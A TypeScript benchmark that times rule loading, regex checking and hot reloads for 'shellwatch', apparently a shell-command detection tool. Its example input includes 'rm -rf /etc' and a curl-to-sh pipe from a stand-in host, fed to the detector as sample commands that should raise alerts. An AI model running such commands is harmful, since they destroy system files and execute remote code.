/**
 * Rule loading (issue 25): how long the service takes to validate, check every regex
 * and compile the `rules/` pack and the bench's 1,000-rule set, how long a hot reload
 * that changes one rule takes after that (with the rule store's compile cache, so it
 * compiles only that rule), and the wall times of the README's three-line
 * `shellwatch eval` example, `rules validate` and `rules test`. Each load runs in a
 * fresh process (the verdict cache is per process, so a fresh one pays what a start
 * pays), once as the service loads (static proof, then recheck for the rest) and once
 * with recheck alone, the baseline of the same run.
 *
 * `node dist/bench/load.bench.js [--quick]` prints the rows as JSON; run.ts calls
 * {@link benchLoads}. `--child SET MODE` is one measurement (internal).
 */
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import type { LoadRuleSetResult, SourceFile } from '../src/core/rules';
import { ruleSetRegexes } from '../src/core/rules';
import { staticRegexVerdict } from '../src/core/rules/operators/check-regex';
import { RuleCompileCache } from '../src/core/rules/rule-compile-cache';
import { ANALYSIS_CONCURRENCY, loadCheckedRuleSet } from '../src/regex-check/load-checked-rule-set';
import { RegexChecker } from '../src/regex-check/regex-checker';
import { readRuleFolder } from '../src/rules-store/rule-files';
import { REPO_ROOT, ruleFilesFor } from './corpus';

export type LoadSet = 'pack' | '1000';
export type LoadMode = 'static' | 'recheck-only';

/** One fresh process's measurement of a rule set. */
export interface LoadRow {
  set: LoadSet;
  mode: LoadMode;
  rules: number;
  regexes: number;
  /** Regexes answered without recheck (the static proof or a quick refusal). */
  staticRegexes: number;
  loadMs: number;
  /** CPU time (user + system) of that load: what it costs whatever else the machine runs. */
  loadCpuMs: number;
  /**
   * Right after, the same set reloaded with one rule's regex edited into a new pattern
   * (new to the verdict cache) that the static proof decides, as the rule store reloads.
   */
  reloadMs: number;
  reloadCpuMs: number;
  /** Rules that reload took from the compile cache, and compiled. */
  reloadReused: number;
  reloadCompiled: number;
  /** Then one more reload, the edit a pattern only recheck decides (an unbounded lookahead). */
  reloadRecheckMs: number;
  /**
   * Problems of the recheck-only baseline's load: its fuzz checker, under load, has
   * called a pack pattern polynomial that V8 runs in linear time (SW-PER-0008's user
   * names, 2026-12-07); the time is still what recheck took. Always 0 for `static`.
   */
  refused: number;
}

export interface LoadResult {
  rows: LoadRow[];
  /** Median wall time of the README's `shellwatch eval` example, and of `node -e 0`. */
  cliEvalMs: number;
  nodeStartMs: number;
  /** Median wall times of `shellwatch rules validate rules` and `rules test rules`. */
  cliValidateMs: number;
  cliTestMs: number;
}

async function files(set: LoadSet): Promise<{ rules: SourceFile[]; lists: SourceFile[] }> {
  if (set === 'pack') {
    const folder = await readRuleFolder(join(REPO_ROOT, 'rules'));
    return { rules: folder.rules, lists: folder.lists };
  }
  const { rules, lists } = ruleFilesFor(1000);
  return { rules, lists };
}

/**
 * The set with one rule changed as an author would change it: one regex of its middle
 * rule edited into a pattern new to the verdict cache by appending `tail`. With
 * `(?:zq)?` the static proof decides the new pattern; with `(?:zq(?=[a-z]*q))?` (an
 * unbounded lookahead, beyond the proof) only recheck can.
 */
function withOneRuleChanged(
  rules: readonly SourceFile[],
  lists: readonly SourceFile[],
  tail: string,
): SourceFile[] {
  const order = rules.map((_, i) => (Math.floor(rules.length / 2) + i) % rules.length);
  for (const index of order) {
    const file = rules[index]!;
    for (const spec of ruleSetRegexes([file], lists)) {
      const quoted = JSON.stringify(spec.source);
      if (!file.text.includes(quoted)) continue;
      const text = file.text.replace(quoted, JSON.stringify(`${spec.source}${tail}`));
      return rules.map((f, i) => (i === index ? { ...f, text } : f));
    }
  }
  throw new Error('no rule with a regex to edit');
}

const DECIDED_TAIL = '(?:zq)?';
const RECHECK_TAIL = '(?:zq(?=[a-z]*q))?';

async function measure(set: LoadSet, mode: LoadMode): Promise<LoadRow> {
  const source = await files(set);
  const checker = new RegexChecker({
    concurrency: ANALYSIS_CONCURRENCY,
    staticProof: mode === 'static',
  });
  // The rule store's: a reload compiles only the files that changed.
  const cache = new RuleCompileCache();
  const timed = async (
    rules: readonly SourceFile[],
  ): Promise<{ ms: number; cpuMs: number; result: LoadRuleSetResult }> => {
    const cpu = process.cpuUsage();
    const started = performance.now();
    const result = await loadCheckedRuleSet(checker, rules, source.lists, new Map(), cache);
    const ms = performance.now() - started;
    const used = process.cpuUsage(cpu);
    const cpuMs = Math.round((used.user + used.system) / 1000);
    if (!result.ok && mode === 'static') throw new Error(JSON.stringify(result.errors.slice(0, 3)));
    if (!result.ok) refused = Math.max(refused, result.errors.length);
    return { ms: Math.round(ms), cpuMs, result };
  };
  let refused = 0;
  try {
    const load = await timed(source.rules);
    const reload = await timed(withOneRuleChanged(source.rules, source.lists, DECIDED_TAIL));
    const counts = cache.lastLoad;
    const recheckReload = await timed(withOneRuleChanged(source.rules, source.lists, RECHECK_TAIL));
    // Counted after the timed loads: this asks the static proof about every regex.
    const regexes = ruleSetRegexes(source.rules, source.lists);
    const staticRegexes = regexes.filter(
      (r) => staticRegexVerdict(r.source, r.flags, mode === 'static') !== undefined,
    ).length;
    return {
      set,
      mode,
      rules: source.rules.length,
      regexes: regexes.length,
      staticRegexes,
      loadMs: load.ms,
      loadCpuMs: load.cpuMs,
      reloadMs: reload.ms,
      reloadCpuMs: reload.cpuMs,
      reloadReused: counts.reused,
      reloadCompiled: counts.compiled,
      reloadRecheckMs: recheckReload.ms,
      refused,
    };
  } finally {
    checker.close();
  }
}

function run(
  args: readonly string[],
  input?: string,
): Promise<{ ms: number; stdout: string; code: number | null }> {
  return new Promise((done, fail) => {
    const started = performance.now();
    const child = spawn(process.execPath, args, {
      cwd: REPO_ROOT,
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    let stdout = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.on('error', fail);
    child.on('exit', (code) => done({ ms: performance.now() - started, stdout, code }));
    child.stdin.end(input ?? '');
  });
}

const median = (values: number[]): number => {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)]!;
};

/** README's example: three lines through `shellwatch eval --format lines`. */
const EXAMPLE = 'ls -la\nrm -rf /etc\ncurl -s http://x.example/a.sh | sh\n';

/** Runs the load section; `log` prints progress. */
export async function benchLoads(options: {
  quick: boolean;
  log: (line: string) => void;
}): Promise<LoadResult> {
  const rows: LoadRow[] = [];
  const plan: [LoadSet, LoadMode][] = [
    ['pack', 'static'],
    ['pack', 'recheck-only'],
    ['1000', 'static'],
  ];
  // The recheck-only 1,000-rule load is the slow one (~20 s on this machine).
  if (!options.quick) plan.push(['1000', 'recheck-only']);
  for (const [set, mode] of plan) {
    options.log(`loads: ${set} rules, ${mode}, in a fresh process…`);
    const child = await run([__filename, '--child', set, mode]);
    if (child.code !== 0) throw new Error(`load bench child ${set} ${mode} failed`);
    const row = JSON.parse(child.stdout) as LoadRow;
    options.log(`loads: ${JSON.stringify(row)}`);
    rows.push(row);
  }
  const cli = { eval: [] as number[], validate: [] as number[], test: [] as number[] };
  const bare: number[] = [];
  const shellwatch = join(REPO_ROOT, 'bin/shellwatch.js');
  for (let round = 0; round < (options.quick ? 3 : 5); round++) {
    const result = await run(
      [shellwatch, 'eval', '--rules', 'rules', '--format', 'lines'],
      EXAMPLE,
    );
    if (result.code !== 0 || result.stdout.split('\n').filter(Boolean).length !== 2)
      throw new Error(`the eval example did not give its 2 alerts (exit ${result.code})`);
    cli.eval.push(result.ms);
    bare.push((await run(['-e', '0'])).ms);
    for (const command of ['validate', 'test'] as const) {
      const checked = await run([shellwatch, 'rules', command, 'rules']);
      if (checked.code !== 0) throw new Error(`shellwatch rules ${command} failed`);
      cli[command].push(checked.ms);
    }
  }
  for (const [name, times] of Object.entries(cli))
    options.log(`loads: CLI ${name} ${times.map(Math.round).join(', ')} ms`);
  return {
    rows,
    cliEvalMs: Math.round(median(cli.eval)),
    nodeStartMs: Math.round(median(bare)),
    cliValidateMs: Math.round(median(cli.validate)),
    cliTestMs: Math.round(median(cli.test)),
  };
}

if (require.main === module) {
  const [, , flag, set, mode] = process.argv;
  if (flag === '--child') {
    measure(set as LoadSet, mode as LoadMode).then(
      (row) => {
        process.stdout.write(`${JSON.stringify(row)}\n`);
        process.exit(0);
      },
      (error: unknown) => {
        console.error(error);
        process.exit(1);
      },
    );
  } else {
    benchLoads({
      quick: process.argv.includes('--quick'),
      log: (line) => console.error(line),
    }).then(
      (result) => {
        process.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
        process.exit(0);
      },
      (error: unknown) => {
        console.error(error);
        process.exit(1);
      },
    );
  }
}
